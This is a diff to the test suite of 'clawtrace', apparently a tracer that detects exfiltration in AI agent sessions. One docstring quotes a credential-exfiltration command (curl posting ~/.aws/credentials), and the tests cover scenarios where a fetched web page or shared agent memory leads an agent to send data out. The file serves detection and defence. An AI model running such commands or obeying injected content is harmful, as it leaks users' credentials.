@@ -80,7 +80,7 @@ def _clawtrace(db: Path, *args: str, timeout: float = 600) -> subprocess.Complet
     env["CLAWTRACE_HOME"] = str(db.parent / "clawtrace-home")
     return subprocess.run(
         [sys.executable, "-m", "clawtrace", "--db", str(db), *args],
-        capture_output=True, text=True, timeout=timeout, env=env, cwd=db.parent,
+        check=False, capture_output=True, text=True, timeout=timeout, env=env, cwd=db.parent,
     )
 
 
@@ -276,7 +276,7 @@ def test_exec_egress_to_the_sink_is_found(imported: Imported) -> None:
 def test_credentials_file_is_a_carried_sensitive_source(imported: Imported) -> None:
     """`curl --data-binary @$HOME/.aws/credentials` shipped the file: it must show as carried."""
     _only(EGRESS_SCENARIOS, imported.sr)
-    (e, *_) = [e for e in _sink_egress(imported) if e["verdict"] == "exfiltration"] or [None]
+    e = next((x for x in _sink_egress(imported) if x["verdict"] == "exfiltration"), None)
     assert e is not None, imported.egress()
     assert any(_is_credentials(c.get("artifact")) for c in e["carried"]), e["carried"]
     why = imported.why(e["event_id"])
@@ -288,7 +288,7 @@ def test_credentials_file_is_a_carried_sensitive_source(imported: Imported) -> N
 def test_fetched_page_is_the_root_cause(imported: Imported) -> None:
     _only({"injection", "memory"}, imported.sr)
     sr = imported.sr
-    (e, *_) = _sink_egress(imported) or [None]
+    e = next(iter(_sink_egress(imported)), None)
     assert e is not None, imported.egress()
     why = imported.why(e["event_id"])
     assert any(_page_fetch(r, sr) for r in why["root_causes"]), why["root_causes"]
@@ -303,7 +303,7 @@ def test_memory_links_the_two_sessions(imported: Imported) -> None:
     _only({"memory"}, imported.sr)
     s1, s2 = _session_ids(imported.sr)
     assert s1 != s2
-    (e, *_) = [x for x in _sink_egress(imported) if _in_session(x, s2)] or [None]
+    e = next((x for x in _sink_egress(imported) if _in_session(x, s2)), None)
     assert e is not None, imported.egress()
     why = imported.why(e["event_id"])
     events = {x["event_id"]: x for x in why["events"]}
